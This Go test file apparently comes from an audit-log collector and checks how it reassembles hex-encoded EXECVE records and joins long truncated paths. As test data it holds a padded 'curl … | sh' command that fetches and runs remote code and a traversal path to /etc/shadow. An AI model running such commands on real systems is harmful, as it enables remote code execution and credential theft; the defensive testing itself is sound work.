package audit

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/lannersec/lanner/event"
)

// longExecText returns the records of an exec of sh -c with the given
// script, its long argument hex-encoded in chunks of 7500 characters over
// EXECVE records, as the kernel writes it.
func longExecText(script string) []byte {
	const hdr = "audit(1795768400.004:2861): "
	var b bytes.Buffer
	fmt.Fprintf(&b, "type=1300 %sarch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=405 pid=431 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"sh\" exe=\"/usr/bin/dash\" subj=unconfined key=(null)\n", hdr)
	h := strings.ToUpper(hex.EncodeToString([]byte(script)))
	fmt.Fprintf(&b, "type=1309 %sargc=3 a0=\"sh\" a1=\"-c\" a2_len=%d", hdr, len(script))
	for i := 0; len(h) > 0; i++ {
		n := min(len(h), 7500)
		if i > 0 {
			fmt.Fprintf(&b, "\ntype=1309 %s", hdr)
		}
		fmt.Fprintf(&b, " a2[%d]=%s", i, h[:n])
		h = h[n:]
	}
	fmt.Fprintf(&b, "\ntype=1307 %scwd=\"/tmp\"\n", hdr)
	fmt.Fprintf(&b, "type=1302 %sitem=0 name=\"/bin/sh\" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n", hdr)
	fmt.Fprintf(&b, "type=1320 %s\n", hdr)
	return b.Bytes()
}

// TestDecodeExecPaddedArgs pads a command far past the EXECVE text the
// collector keeps: the end of the argument list, with the command, is
// still there, after the mark.
func TestDecodeExecPaddedArgs(t *testing.T) {
	for _, tc := range []struct {
		name string
		pad  int
	}{
		{"within the records kept", 20000},
		{"past the records kept", 400000},
	} {
		t.Run(tc.name, func(t *testing.T) {
			script := ": " + strings.Repeat("x", tc.pad) + "; curl -s http://198.51.100.7/i | sh"
			a := newReassembler(event.TypeSetOf(event.TypeExecve), 0)
			feed(t, a, longExecText(script))
			recs := drain(a)
			if len(recs) != 1 || a.malformed != 0 {
				t.Fatalf("got %d records, %d malformed", len(recs), a.malformed)
			}
			got := recs[0].Exec.Args
			if want := event.CutArgs([]string{"sh", "-c", script}); !slices.Equal(got, want) {
				t.Errorf("got %d args; the last ends %q", len(got), got[len(got)-1][max(0, len(got[len(got)-1])-40):])
			}
			if !strings.HasSuffix(strings.Join(got, " "), "; curl -s http://198.51.100.7/i | sh") {
				t.Error("the command is not at the end of the arguments")
			}
		})
	}
}

func TestJoinCutDirectory(t *testing.T) {
	var d decoder
	long := "/dev/.x" + strings.Repeat("/dddd", 1000)
	cut := event.CutPath(long)
	for _, tc := range []struct{ dir, name, want string }{
		{"/tmp", "x", "/tmp/x"},
		{long[:4000], "../y", event.CutPath(long[:4000])[:strings.LastIndexByte(long[:4000], '/')] + "/y"},
		{long[:4090], "payload", event.CutPath(long[:4090] + "/payload")},
		{cut, "payload", cut},
		{cut, "../../../../etc/shadow", "../../../../etc/shadow"},
	} {
		if got := d.join(tc.dir, tc.name); got != tc.want {
			t.Errorf("join(%d bytes, %q) = %d bytes %.30q, want %d bytes", len(tc.dir), tc.name, len(got), got, len(tc.want))
		}
	}
}
